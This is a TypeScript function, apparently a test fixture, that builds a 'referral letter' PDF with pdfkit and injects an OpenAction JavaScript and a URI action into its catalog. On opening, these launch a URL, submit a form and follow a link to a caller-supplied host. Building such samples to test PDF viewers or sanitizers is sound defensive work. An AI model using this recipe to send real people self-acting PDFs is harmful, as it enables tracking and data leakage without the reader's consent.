import PDFDocument from 'pdfkit';

/** A letter with what PDF has to act by: an action on opening, a script by name, links, a form that sends itself. */
export async function hostilePdf(callsOut: string): Promise<Buffer> {
  const pdf = new PDFDocument({ size: 'A4' });
  const chunks: Buffer[] = [];
  pdf.on('data', (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise((done) => pdf.on('end', done));
  pdf.fontSize(24).text('Referral letter: fall from a ladder', { link: `${callsOut}/link` });
  pdf.rect(72, 200, 300, 100).fill('#003366');
  pdf.end();
  await ended;
  const script = `(app.alert\\(1\\);app.launchURL\\("${callsOut}/js"\\);this.submitForm\\("${callsOut}/form"\\))`;
  const acts = `/OpenAction << /S /JavaScript /JS ${script} >> /AA << /WC << /S /URI /URI (${callsOut}/uri) >> >>`;
  return Buffer.from(
    Buffer.concat(chunks).toString('latin1').replace('/Type /Catalog', `/Type /Catalog ${acts}`),
    'latin1',
  );
}
